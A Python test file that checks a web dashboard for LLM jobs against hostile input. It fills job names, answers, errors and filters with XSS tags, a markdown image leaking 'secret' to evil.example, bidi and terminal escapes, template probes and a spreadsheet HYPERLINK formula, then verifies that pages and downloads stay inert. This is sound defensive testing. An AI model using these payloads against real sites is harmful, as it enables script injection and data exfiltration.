"""One job in which every string is an attack: every page of it must be inert."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from sqlalchemy import select, update

from reasoning.records import Candidate, Finish, Usage
from storage.tables import Call, Job, Query
from tests.web.conftest import Site
from tests.web.scenes import SceneEngine
from tests.web.test_pages import check_html
from tests.web.test_submit_page import FIELDS, file_of, lines, picture, send
from workers.engine.protocol import Choose, Chosen, Generate

ATTACKS = (
    "<script>alert('owned')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "![x](https://evil.example/leak?q=secret)",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "user\u202egnp.exe \u2066hidden\u2069 zero\u200bwidth",
    "{{ 7*7 }} {% raw %} ${7*7}",
    "javascript:alert(1)",
    "</textarea></title></style><script>alert(2)</script>",
    '=HYPERLINK("https://evil.example")',
    "x" * 1_000_000,
)
ALL = "\n".join(ATTACKS)
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f\u200b\u202a-\u202e\u2066-\u2069]")


class HostileEngine(SceneEngine):
    """Writes attacks inside the tags, and judges with them."""

    def generate(self, request: Generate) -> Any:
        future = super().generate(request)
        drawn = future.result()
        if request.stop:
            tag = request.stop.replace("/", "")
            texts = {c.index: f"{tag}{ALL} number {c.index}{request.stop}" for c in drawn.candidates}
            made = tuple(Candidate(c.index, texts[c.index], 9, Finish.STOP, seed=c.seed) for c in drawn.candidates)
        else:
            made = tuple(Candidate(0, f"{ALL} I choose response 1.", 9, Finish.STOP) for _ in drawn.candidates)
        object.__setattr__(drawn, "candidates", made)
        return future

    def choose(self, request: Choose) -> Any:
        future = super().choose(request)
        object.__setattr__(future.result(), "usage", Usage())
        assert isinstance(future.result(), Chosen)
        return future


@pytest.fixture
def hostile(site: Site) -> tuple[Site, str, int]:
    filler = site.filler()
    filler.engine = HostileEngine()
    filler.workers = ("<b>gpu</b>\u202e@x:1:1",)
    lines = filler.scenes(range(2))
    for line in lines:
        line["custom_id"] += ATTACKS[0]
        line["question"] = ALL
        line["choices"] = list(ATTACKS)
        line["answer"] = ATTACKS[1]
    labels = {ATTACKS[0]: ATTACKS[1], "all": ALL.replace("\0", "")[:2000]}
    job = filler.job(
        lines, name=f"{ATTACKS[2]} \u202ename", policy={"candidates": 2, "judge": "words"}, attributes=labels
    )
    filler.run(job)
    filler.beat(filler.workers[0], in_hand=[{"id": 1, "query_id": 1, "stage": ATTACKS[0], "since": 0.0}])
    with site.db.write() as conn:
        broken = conn.execute(select(Query.__table__.c.id).where(Query.__table__.c.line == 2)).scalar_one()
        error = {
            "code": ATTACKS[0],
            "message": ALL,
            "stage": ATTACKS[1],
            "attempts": 1,
            "retryable": True,
            "cause": ATTACKS[2],
        }
        values = {"status": "failed", "error": error, "answer": None}
        conn.execute(update(Query.__table__).where(Query.__table__.c.id == broken).values(values))
        problems = [{"line": 1, "field": ATTACKS[0], "code": ATTACKS[1], "message": ALL}]
        conn.execute(update(Job.__table__).values(errors=problems, error_count=1, status_reason=ALL))
        query = conn.execute(select(Query.__table__.c.id).where(Query.__table__.c.line == 1)).scalar_one()
    return site, job, query


def test_every_page_of_a_hostile_job_is_inert(hostile: tuple[Site, str, int]):
    site, job, query = hostile
    site.post(f"/jobs/{job}/pause", {"reason": ALL[:300]})
    with site.db.read() as conn:
        call = conn.execute(select(Call.__table__.c.id).where(Call.__table__.c.query_id == query)).scalars().first()
    other = query + 1
    paths = [
        *("/", "/jobs", f"/jobs/{job}", f"/jobs/{job}/queries", f"/jobs/{job}/judge", "/workers", "/failures"),
        *(f"/queries/{query}", f"/queries/{other}", f"/queries/{query}/verdicts/caption/0", "/audit", "/new-job"),
        *(f"/queries/{query}/diff/reasoning", f"/queries/{query}/calls/{call}", f"/new-job?like={job}"),
        *(f"/compare?a={job}&b={job}", f"/jobs/{job}/queries?filter={ATTACKS[0]}", f"/jobs?filter={ATTACKS[1]}"),
        *("/jobs?filter=label:all", "/jobs?filter=label:%00", f"/jobs/{job}/queries?filter=cause:%00"),
        *(f"/compare?a={ATTACKS[0]}&b={ATTACKS[1]}", f"/audit?subject={ATTACKS[2]}", f"/jobs/{ATTACKS[0]}"),
    ]
    for path in paths:
        answer = site.get(path)
        assert answer.status_code in (200, 400, 404), (path, answer.text[:300])
        check_inert(path, answer.text)


def check_inert(path: str, html: str) -> None:
    check_html(html)
    assert not FORBIDDEN.search(html), path
    for tag in ("<script>", "<img src=x", "<svg onload", "<b>gpu"):
        assert tag not in html, (path, tag)
    assert len(html) < 600_000, (path, len(html))


@pytest.mark.parametrize("policy", [{"strategy": "single", "candidates": 1}, {"mode": "published", "candidates": 2}])
def test_other_policies_are_inert_too(policy: dict[str, Any], site: Site):
    filler = site.filler()
    filler.engine = HostileEngine()
    (line,) = filler.scenes(range(1))
    job = filler.job([{**line, "question": ALL, "choices": list(ATTACKS)}], policy=policy)
    filler.run(job)
    with site.db.read() as conn:
        query = conn.execute(select(Query.__table__.c.id)).scalar_one()
    check_inert("query", site.get(f"/queries/{query}").text)
    check_inert("judge", site.get(f"/jobs/{job}/judge").text)


def test_a_plan_of_hostile_lines_is_inert(site: Site):
    asked = {"question": ALL, "choices": list(ATTACKS), "images": [picture()]}
    good = [{**asked, "custom_id": attack[:200]} for attack in ATTACKS[:4]]
    bad = [{**asked, "custom_id": str(n), attack[:300]: attack[:300]} for n, attack in enumerate(ATTACKS)]
    page = send(site, "/new-job", FIELDS, lines(*good, *bad)).text
    assert "As it would be asked" in page
    check_inert("plan", page)
    table = send(site, "/new-job/errors?as=csv", {**FIELDS, "file_id": file_of(page)})
    assert not table.headers["content-type"].startswith("text/html")
    assert "attachment" in table.headers["content-disposition"]
    cells = [cell for row in csv.reader(io.StringIO(table.text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_downloads_are_faithful_and_never_a_page(hostile: tuple[Site, str, int]):
    site, job, query = hostile
    for path in (f"/queries/{query}/raw", f"/jobs/{job}/lines?part=all"):
        answer = site.get(path)
        assert "attachment" in answer.headers["content-disposition"]
        assert not answer.headers["content-type"].startswith("text/html")
        assert answer.headers["x-content-type-options"] == "nosniff"
    trace = site.get(f"/queries/{query}/raw").json()
    assert ATTACKS[6] in trace["stages"][0]["candidates"][0]["text"]
